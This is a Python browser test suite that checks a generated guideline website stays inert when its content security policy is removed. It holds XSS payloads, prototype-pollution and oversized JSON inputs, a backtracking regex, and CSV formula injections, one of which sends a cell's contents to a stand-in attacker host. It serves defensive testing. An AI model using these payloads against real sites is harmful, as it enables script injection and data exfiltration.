"""A hostile guideline in a real browser, its pages without their policy: nothing it says ever runs.

The policy is taken out of every page, so that only the escaping stands between reader and attack.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from itertools import cycle, repeat
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

import attack_example
import site_example
from attack_words import ADDRESSES, ATTRIBUTES, BREAKERS, ELEMENTS, SCRIPTS, TEXTS
from guidegraph.site import engine
from guidegraph.site.build import build_site
from guidegraph.site.history import History

pytestmark = pytest.mark.browser

FOREIGN = """() => {
  const elements = "iframe, object, embed, base, style, audio, math, link[href*='attack'],"
    + "meta[http-equiv=refresh], noscript, animate, foreignObject";
  const found = [...document.querySelectorAll(elements)].map((each) => each.outerHTML);
  const leads = /^(href|src|action|formaction|data|srcdoc|xlink:href|poster|background)$/;
  const harmless = ["file:", "http:", "https:", "mailto:"];
  for (const each of document.querySelectorAll("*")) {
    for (const { name, value } of each.attributes) {
      if (/^on/i.test(name)) found.push(each.outerHTML);
      if (!leads.test(name)) continue;
      const address = new URL(value, document.baseURI);
      const asks = each.matches("script, link, img, image, use");
      if (!harmless.includes(address.protocol) || (asks && address.protocol !== "file:")
        || address.username || (address.protocol === "file:" && address.hostname)) {
        found.push(each.outerHTML);
      }
    }
  }
  const scripts = [...document.scripts].filter((each) => !each.src && !/json$/.test(each.type));
  return [...found, ...scripts.map((each) => each.outerHTML)].map((each) => each.slice(0, 300));
}"""
"""What no page of ours holds: elements and attributes that run, links nobody should follow."""

USE = """() => {
  document.querySelector("[data-choose=nl]")?.click();
  document.querySelectorAll("details").forEach((each) => { each.open = true; each.fill?.(); });
  document.querySelectorAll(".sort").forEach((each) => each.click());
  document.querySelectorAll(".table-filter input").forEach((each) => {
    each.value = "ran";
    each.dispatchEvent(new Event("input"));
  });
  dispatchEvent(new Event("beforeprint"));
  dispatchEvent(new Event("afterprint"));
  dispatchEvent(new Event("hashchange"));
  document.querySelectorAll("[data-node], main a, main [tabindex]").forEach((each) => {
    for (const event of ["focus", "mouseenter", "mouseover", "pointerenter"]) {
      each.dispatchEvent(new Event(event, { bubbles: event.endsWith("over") }));
    }
  });
}"""
"""Everything that a reader may do on any page, at once."""


class Watch:
    """A visitor who notices whatever runs, asks or complains."""

    def __init__(self, visit: Any) -> None:
        self.visit = visit
        self.page = visit.page
        self.ran: list[str] = []
        visit.context.expose_binding("ran", lambda source, *_: self.ran.append(source["page"].url))
        visit.page.on("dialog", lambda dialog: (self.ran.append("dialog"), dialog.dismiss()))

    def open(self, folder: Path, address: str) -> Any:
        self.page.goto("about:blank")
        return self.visit.open(folder, address)

    def is_calm(self, where: str) -> None:
        """Nothing ran, nobody was asked, and the page holds only what is ours."""
        assert self.page.evaluate(FOREIGN) == [], where
        assert self.page.evaluate("({}).polluted === undefined"), where
        assert self.ran == [], where
        assert self.visit.complaints == [], where
        assert self.visit.strangers("file:") == [], where


@pytest.fixture
def watch(visit: Any) -> Watch:
    return Watch(visit)


def unguarded(folder: Path) -> Path:
    """The site without its policies."""
    for file in folder.rglob("*.html"):
        page = file.read_text("utf-8")
        assert "Content-Security-Policy" in page
        file.write_text(page.replace("Content-Security-Policy", "x-nothing"), "utf-8")
    return folder


def shifted(first: int) -> Iterator[str]:
    """Every payload in turn, beginning somewhere in the middle."""
    return cycle(TEXTS[first:] + TEXTS[:first])


WAYS = ("in turn", "in another turn", "all at once", "in names")


@pytest.fixture(scope="module", params=WAYS)
def attacked(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site with another payload in each literal, or with the worst of them in every one."""
    texts = {"in another turn": shifted(29), "all at once": repeat(BREAKERS)}
    attacker = attack_example.Attacker(texts.get(request.param, shifted(0)), cycle(ADDRESSES))
    known = attacker.guideline()
    given: dict[str, Any] = {}
    if request.param == "in names":
        known = site_example.renamed(known, lambda name: f"{name}\"'/><img src=x onerror=ran()>&é")
        given = {"cases": None, "verification": None, "history": History()}
    content = attacker.content(known, **given)
    return unguarded(build_site(content, tmp_path_factory.mktemp("attacked")).folder)


def pages(folder: Path) -> list[str]:
    return [each.relative_to(folder).as_posix() for each in sorted(folder.rglob("*.html"))]


def test_nothing_runs_on_any_page(attacked: Path, watch: Watch) -> None:
    addresses = pages(attacked)
    assert len(addresses) > 60
    for address in addresses:
        page = watch.open(attacked, address)
        watch.is_calm(address)
        page.evaluate(USE)
        watch.is_calm(address)


def test_nothing_runs_in_what_is_searched_and_found(attacked: Path, watch: Watch) -> None:
    page = watch.open(attacked, "index.html")
    for words in ("ran", "script", "img", "javascript ran"):
        page.fill("#site-search", words)
        page.wait_for_timeout(150)
        watch.is_calm(words)
    assert page.locator("#site-search-list [role=option]").count() > 0
    watch.open(attacked, "search.html#q=ran")
    page.wait_for_selector(".results li")
    for kind in page.locator("#search-kind option").all():
        page.select_option("#search-kind", kind.get_attribute("value"))
    watch.is_calm("search.html")


def test_nothing_runs_while_a_patient_is_tried(attacked: Path, watch: Watch) -> None:
    page = watch.open(attacked, "simulator.html")
    page.wait_for_selector("#simulator.ready")
    watch.is_calm("empty")
    for option in page.locator("#example option").all():
        page.select_option("#example", option.get_attribute("value"))
        page.get_by_role("button", name="Show it").click()
        page.evaluate(USE)
        watch.is_calm("an example")
    page.evaluate("document.querySelectorAll('.form [type=radio]').forEach((each) => each.click())")
    page.wait_for_timeout(200)
    for number, each in enumerate(page.locator(".form input[type=text]").all()):
        if each.is_visible():
            each.fill(TEXTS[number % len(TEXTS)].replace("\n", " ").replace("\ud800", ""))
    page.wait_for_timeout(200)
    page.evaluate(USE)
    watch.is_calm("filled in")
    for name in ("Share as a link", "Save as a test case"):
        page.get_by_role("button", name=name).click()
    watch.is_calm("taken away")


def test_nothing_runs_along_the_way_of_a_patient(attacked: Path, watch: Watch) -> None:
    (address,) = (each for each in pages(attacked) if each.startswith("pathways/path"))
    facts = {"marker": [{"minutes": 30, "value": "500.5", "unit": "ug/L", "basis": "FEU"}]}
    hash_part = quote(json.dumps({"now": {"minutes": 1440}, "facts": facts}))
    page = watch.open(attacked, f"{address}#patient={hash_part}")
    page.wait_for_timeout(200)
    page.evaluate(USE)
    watch.is_calm(address)


@pytest.mark.skipif(engine.find() is None, reason=engine.MISSING)
def test_nothing_runs_in_an_answer_and_its_file_is_exact(attacked: Path, watch: Watch) -> None:
    page = watch.open(attacked, "queries/everything.html")
    page.get_by_role("button", name="Run", exact=True).click()
    page.locator("#asking button[type=submit]:not(:disabled)").wait_for(timeout=60_000)
    assert page.locator("#asking .query-answer tbody tr").count() == len(TEXTS)
    page.evaluate(USE)
    watch.is_calm("answer")
    with page.expect_download() as held:
        page.get_by_role("button", name="Download as CSV").click()
    text = Path(held.value.path()).read_bytes().decode("utf-8")
    labels = {row["label"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert {'=HYPERLINK("https://attack.example/?"&A1)', "+ran()", "-2+3", "@SUM(1)"} <= labels
    assert "takes a cell" in page.locator("#asking .query-answer .note").inner_text()


@pytest.mark.skipif(engine.find() is None, reason=engine.MISSING)
def test_nothing_runs_in_the_editor(attacked: Path, watch: Watch) -> None:
    page = watch.open(attacked, "queries/editor.html")
    menu = page.get_by_label("Begin with a query")
    for option in menu.locator("option").all():
        menu.select_option(value=option.get_attribute("value"))
        page.get_by_role("button", name="Put it into the editor").click()
        watch.is_calm("editor")
    for each in page.locator("#asking fieldset.values input").all():
        if each.get_attribute("type") == "text":
            each.fill(BREAKERS.replace("\n", " "))
    page.get_by_role("button", name="Run", exact=True).click()
    page.locator("#asking button[type=submit]:not(:disabled)").wait_for(timeout=60_000)
    watch.is_calm("editor")


# --- addresses that attack ------------------------------------------------------------------------

PATIENTS = (
    "<script>ran()</script>",
    "%",
    "%E0%A4%A",
    "%00",
    "null",
    "[]",
    "3",
    '"<img src=x onerror=ran()>"',
    "[" * 50_000,
    '{"facts":' * 10_000,
    '{"facts":{"marker":' + "[" * 20_000 + "]" * 20_000 + "}}",
    "x" * 300_000,
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    '{"facts":{"__proto__":{"polluted":1},"toString":1,"hasOwnProperty":true}}',
    '{"facts":{"marker":"<img src=x onerror=ran()>","<script>ran()</script>":1}}',
    '{"facts":{"illness":"</script><script>ran()</script>","bleeding":"javascript:ran()"}}',
    '{"facts":{"marker":[{"at":"<svg onload=ran()>","value":"1","unit":"<b>","basis":"<i>"}]}}',
    '{"now":"<img src=x onerror=ran()>","anchors":{"admission":"<svg onload=ran()>"}}',
    '{"settings":{"strong":"<svg onload=ran()>","<svg onload=ran()>":1},"facts":{}}',
    '{"facts":{"weight":{"value":1e999999,"unit":"kg"}}}',
    '{"facts":{"weight":{"value":"1e99999999","unit":"kg"}}}',
    '{"facts":{"weight":{"value":"' + "9" * 50_000 + '","unit":"kg"}}}',
    '{"facts":{"marker":['
    + ",".join(f'{{"minutes":{n},"value":"7","unit":"ug/L","basis":"FEU"}}' for n in range(300))
    + "]}}",
    '{"now":"' + "2024-01-02T" * 10_000 + '","facts":{}}',
    '{"facts":{"weight":{"value":"\\ud800","unit":"\\u2028"}}}',
)
"""Patients that are none, that hold payloads, or that are too deep, too large or too many."""

WORDS = (
    "<img src=x onerror=ran()>",
    '"><script>ran()</script>&kind="><img src=x onerror=ran()>',
    "%",
    "%E0%A4%A&kind=%",
    "__proto__&kind=constructor",
    "(((((a+)+)+)+)+)$[\\",
    "a " * 20_000,
    "a" * 100_000,
    "\u202eran\u2028\u0000",
)


@pytest.mark.parametrize("number", range(len(PATIENTS)))
def test_a_patient_of_an_address_does_no_harm(tries: Path, watch: Watch, number: int) -> None:
    raw = PATIENTS[number]
    written = raw if raw.startswith("%") else quote(raw)
    for address in ("simulator.html", "pathways/path.html"):
        page = watch.open(tries, f"{address}#patient={written}")
        page.evaluate(USE)
        watch.is_calm(address)
        assert page.locator("h1").is_visible()
    page = watch.open(tries, "simulator.html")
    page.evaluate("(hash) => { location.hash = hash; }", f"#patient={written}")
    page.wait_for_selector("#simulator.ready")
    page.get_by_role("button", name="Clear all").click()
    watch.is_calm("afterwards")
    assert page.locator(".advice").count() > 0


@pytest.mark.parametrize("words", WORDS, ids=range(len(WORDS)))
def test_words_of_an_address_do_no_harm(tries: Path, watch: Watch, words: str) -> None:
    for written in (words, quote(words)):
        page = watch.open(tries, f"search.html#q={written}")
        page.wait_for_timeout(100)
        watch.is_calm("search.html")
        assert page.locator("#search-words").is_visible()


@pytest.mark.parametrize("place", ['"><img src=x onerror=ran()>', "[x=", "%", "__proto__", "a\\"])
def test_a_place_of_an_address_does_no_harm(tries: Path, watch: Watch, place: str) -> None:
    for address in ("index.html", "pathways/path.html", "thresholds/index.html", "names.html"):
        page = watch.open(tries, f"{address}#{place}")
        page.evaluate(USE)
        watch.is_calm(address)


@pytest.fixture(scope="module")
def tries(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A harmless site with everything that reads the address, without its policies."""
    content = attack_example.simulator_example.content()
    return unguarded(build_site(content, tmp_path_factory.mktemp("tries")).folder)


# --- that the attacks are attacks -----------------------------------------------------------------


@pytest.mark.parametrize("attack", [*ELEMENTS, *ATTRIBUTES, *SCRIPTS], ids=str)
def test_the_attacks_would_run_if_they_were_not_escaped(
    chromium: Any, tmp_path: Path, attack: str
) -> None:
    context = chromium.new_context()
    told: list[str] = []
    context.expose_binding("ran", lambda *_: told.append("ran"))
    context.on("request", lambda request: "attack.example" in request.url and told.append("asked"))
    file = tmp_path / "page.html"
    slots = (
        "<p>{}</p>",
        '<p title="{}">x</p>',
        "<p title='{}'>x</p>",
        "<p title={}>x</p>",
        '<script>const x = "{}";</script>',
        "<script>const x = '{}';</script>",
        "<script>const x = `{}`;</script>",
        "<script>/* {} */</script>",
        "<script>// {}\n</script>",
    )
    for slot in slots:
        file.write_text(f'<!doctype html><meta charset="utf-8">{slot.format(attack)}', "utf-8")
        page = context.new_page()  # one that was led elsewhere may still be on its way
        page.goto(file.as_uri(), wait_until="commit")
        page.wait_for_timeout(80)
    context.close()
    assert told


def test_addresses_that_run_would_run_as_links(chromium: Any, tmp_path: Path) -> None:
    context = chromium.new_context()
    page = context.new_page()
    told: list[str] = []
    context.expose_binding("ran", lambda *_: told.append("ran"))
    file = tmp_path / "page.html"
    running = [each for each in ADDRESSES if each.lower().lstrip(" \u0001").startswith("java")]
    for address in running:
        file.write_text(f'<!doctype html><a href="{address}">x</a>', "utf-8")
        page.goto(file.as_uri())
        page.locator("a").click()
        page.wait_for_timeout(50)
    context.close()
    assert len(told) == len(running) >= 6


def test_the_policy_stops_what_a_handwritten_page_tries(chromium: Any, tmp_path: Path) -> None:
    folder = tmp_path / "pages"
    folder.mkdir()
    # What no policy can forbid a page, the build refuses: see test_site_safety.
    elements = [each for each in ELEMENTS if not each.startswith(("<meta", "<link"))]
    attacks = [*elements, '<a id="link" href="javascript:ran()">x</a>']
    for number, attack in enumerate(attacks):
        (folder / f"page-{number}.md").write_text(f"# Page\n\n{attack}\n", "utf-8")
    site = build_site(site_example.content(pages=folder), tmp_path / "out").folder
    assert tried(chromium, site, len(attacks)) == []
    assert len(tried(chromium, unguarded(site), len(attacks))) >= len(attacks) - 3


def tried(chromium: Any, site: Path, count: int) -> list[int]:
    """The handwritten pages on which something ran, or from which somebody was reached."""
    context = chromium.new_context()
    page = context.new_page()
    told: set[int] = set()
    now = 0
    context.expose_binding("ran", lambda *_: told.add(now))
    asks: list[Any] = []
    page.on("request", lambda request: asks.append(request))
    for now in range(count):
        page.goto((site / f"page-{now}.html").as_uri())
        if page.locator("#link").count():
            page.locator("#link").click()
        page.wait_for_timeout(100)
        strange = (each for each in asks if "attack.example" in each.url)
        if any("csp" not in (each.failure or "").lower() for each in strange):
            told.add(now)
        asks.clear()
    context.close()
    return sorted(told)
